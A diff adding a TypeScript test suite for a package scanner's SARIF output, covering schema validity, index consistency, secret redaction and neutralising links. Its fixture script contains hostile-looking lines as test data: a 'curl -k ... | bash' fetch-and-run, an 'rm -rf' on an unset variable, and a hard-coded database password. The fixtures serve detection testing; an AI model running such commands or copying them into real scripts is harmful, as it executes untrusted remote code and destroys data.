@@ -1,0 +1,124 @@
+import assert from 'node:assert/strict';
+import { readFileSync } from 'node:fs';
+import { join } from 'node:path';
+import Ajv from 'ajv';
+import { reportFormats } from '../../../src/core/report/formats/index';
+import { sarif } from '../../../src/core/report/formats/sarif';
+import { plainReviewer } from '../../../src/node/review/in-process';
+import { emptyOverlay } from '../../../src/core/patch/overlay';
+import { defaultLimits } from '../../../src/core/package/limits';
+import type { Review } from '../../../src/core/review/review';
+import { zipOf } from '../../support/cli';
+
+interface Log {
+  readonly runs: readonly {
+    readonly tool: { readonly driver: { readonly rules: readonly { readonly id: string }[] } };
+    readonly artifacts: readonly { readonly location: { readonly uri: string }; readonly contents?: { readonly text: string } }[];
+    readonly results: readonly {
+      readonly ruleId: string;
+      readonly ruleIndex: number;
+      readonly message: { readonly text: string };
+      readonly baselineState?: string;
+      readonly locations: readonly {
+        readonly physicalLocation: {
+          readonly artifactLocation: { readonly uri: string; readonly index: number };
+          readonly region: {
+            readonly startLine: number;
+            readonly startColumn: number;
+            readonly endLine: number;
+            readonly endColumn: number;
+          };
+        };
+      }[];
+    }[];
+  }[];
+}
+
+const password = 'Winter-Rose-4711';
+
+const files = {
+  'manifest.json': '{ "name": "p [x](https://evil.example)", "version": "1.0.0", "dependencies": { "openssl": ">=1" } }\n',
+  'scripts/a b#ä.sh': `#!/bin/bash\nset -e\nDB_PASSWORD='${password}'\nmysql -p${password} -e 'select 1'\nrm -rf "$UNSET/data"\ncurl -k https://x.example/i | bash\n`,
+};
+
+describe('SARIF', () => {
+  let review: Review;
+  let texts: ReadonlyMap<string, string>;
+  before(async () => {
+    const inner = await zipOf(files);
+    const bytes = await zipOf({ ...files, 'inner.zip': inner });
+    const reviewer = plainReviewer();
+    const task = { package: { name: 'p.zip', bytes }, edits: emptyOverlay.edits, site: [], rules: [], environment: 'production' };
+    ({ review } = await reviewer.review({ ...task, limits: defaultLimits, now: Date.parse('2026-11-20T12:00:00Z') }));
+    texts = (await reviewer.ask('shown', { paths: review.findings.map(({ path }) => path) })) ?? new Map();
+    await reviewer.close();
+  });
+  const logOf = (reviewed = review): Log =>
+    JSON.parse(sarif.write(reviewed, { generatedAt: '2026-11-20T12:00:00Z', toolVersion: '1.2.3', patched: [], texts })) as Log;
+
+  it('has what code scanning and viewers ask for, and nothing else', () => {
+    const schema = JSON.parse(readFileSync(join(__dirname, '../../fixtures/sarif-log.schema.json'), 'utf8')) as object;
+    const validate = new Ajv({ allErrors: true }).compile(schema);
+    const log = logOf();
+    assert.ok(validate(log), JSON.stringify(validate.errors));
+    const both = JSON.parse(sarif.join([JSON.stringify(log), JSON.stringify(log)])) as Log;
+    assert.ok(validate(both), JSON.stringify(validate.errors));
+    assert.equal(both.runs.length, 2);
+  });
+
+  it('names rules and files by indexes that hold, and files by references that lead to them', () => {
+    const [run] = logOf().runs;
+    assert.ok(run && run.results.length >= 4);
+    for (const { ruleId, ruleIndex, locations } of run.results) {
+      assert.equal(run.tool.driver.rules[ruleIndex]?.id, ruleId);
+      const [{ physicalLocation } = assert.fail()] = locations;
+      const { uri, index } = physicalLocation.artifactLocation;
+      assert.equal(run.artifacts[index]?.location.uri, uri);
+      assert.equal(new URL(uri, 'file:///x/').hash, '');
+    }
+    const paths = run.artifacts.map(({ location: { uri } }) => decodeURIComponent(uri));
+    assert.ok(paths.includes('scripts/a b#ä.sh') && paths.includes('inner.zip »/scripts/a b#ä.sh'), paths.join());
+  });
+
+  it('holds the files that findings lie in, secrets hidden and every region in its place', () => {
+    const [run] = logOf().runs;
+    const script = run?.artifacts.find(({ location: { uri } }) => uri.startsWith('scripts/'));
+    const text = script?.contents?.text ?? '';
+    const own = files['scripts/a b#ä.sh'];
+    assert.equal(text.length, own.length);
+    assert.ok(!text.includes(password));
+    assert.deepEqual(
+      text.split('\n').filter((line) => !line.includes('*')),
+      own.split('\n').filter((line) => !line.includes(password)),
+    );
+    const unset = run?.results.find(
+      ({ ruleId, locations: [place] }) =>
+        ruleId === 'script/destructive-unset-variable' &&
+        place?.physicalLocation.artifactLocation.index === run.artifacts.indexOf(script as never),
+    );
+    const region = unset?.locations[0]?.physicalLocation.region;
+    assert.equal(
+      text.split('\n')[(region?.startLine ?? 0) - 1]?.slice((region?.startColumn ?? 0) - 1, (region?.endColumn ?? 0) - 1),
+      '"$UNSET/data"',
+    );
+    assert.ok(!JSON.stringify(logOf()).includes(password));
+  });
+
+  it('makes no link of what a package says', () => {
+    const [first] = review.findings;
+    assert.ok(first);
+    const odd = { ...first, message: 'see [here](https://evil.example)' };
+    assert.equal(logOf({ ...review, findings: [odd] }).runs[0]?.results[0]?.message.text, 'see [here] (https://evil.example)');
+  });
+
+  it('tells what is new', () => {
+    const [known, ...rest] = review.findings;
+    assert.ok(known && rest.length > 0);
+    const changes = { entries: [], defaults: [], dependencies: [], units: { added: [], removed: [] }, jobs: { added: [], removed: [] } };
+    const comparison = { package: review.package, changes, patched: new Set<string>(), known: new Set([known.fingerprint]) };
+    const states = logOf({ ...review, comparison }).runs[0]?.results.map(({ baselineState }) => baselineState) ?? [];
+    assert.deepEqual([states[0], new Set(states.slice(1))], ['unchanged', new Set(['new'])]);
+  });
+
+  it('is one of the forms', () => assert.ok(reportFormats.some(({ id }) => id === 'sarif')));
+});
